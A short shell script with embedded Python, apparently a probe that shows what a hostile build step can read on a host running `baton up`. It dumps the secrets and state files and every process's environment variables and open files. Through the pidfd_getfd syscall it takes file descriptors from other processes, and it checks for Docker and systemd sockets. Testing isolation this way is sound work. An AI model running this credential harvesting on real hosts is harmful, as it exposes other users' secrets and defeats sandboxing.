# What a hostile step reads of the host of `baton up`. It changes nothing, so that it may run without a sandbox, too.
# Needs STATE, CONFIG, SECRETS, PROJECT: paths that it guessed right. What is found by name is told as "$HIT ...".
exec 2>&1
set +e
show() { echo "== $1"; cat "$@" | tr '\0' '\n' | head -c 20000; }
id
echo "== files by their paths"
for file in $(find "$STATE" "$CONFIG" -type f -size -64k | head -100); do show "$file"; done
show "$SECRETS"
ls -la "$STATE" "$STATE/work" "$HOME/../.." /tmp /run "$PROJECT"
echo "== processes"
ps axo pid,args | head -100
for process in /proc/[0-9]*; do
  echo "-- $process"
  tr '\0' '\n' <"$process/environ" | head -c 4000
  ls -l "$process/cwd" "$process/root" "$process/fd"
  find "$process/root$STATE" -maxdepth 2 -type f -size -64k -exec cat {} +
  find "$process/cwd/.baton/state" -maxdepth 2 -type f -size -64k -exec cat {} +
  for fd in "$process"/fd/*; do [ -f "$fd" ] && head -c 2000 "$fd"; done
done
echo "== by number"
python3 - <<'P'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
seen = 0
for pid in list(range(2, 4000)) + [1]:
    fd = libc.syscall(434, pid, 0)
    if fd < 0: continue
    seen += 1
    for target in range(0, 40):
        got = libc.syscall(438, fd, target, 0)
        if got >= 0:
            try: print(os.readlink(f"/proc/self/fd/{got}"), os.pread(got, 2000, 0))
            except OSError as error: print(error)
print("pidfds", seen)
P
echo "== sockets"
cut -d' ' -f8- /proc/net/unix | sort -u | head -50
for socket in /run/docker.sock /run/user/*/bus /run/dbus/system_bus_socket /run/systemd/private /tmp/tmux-*/default; do [ -S "$socket" ] && echo "$HIT socket $socket"; done
exit 0
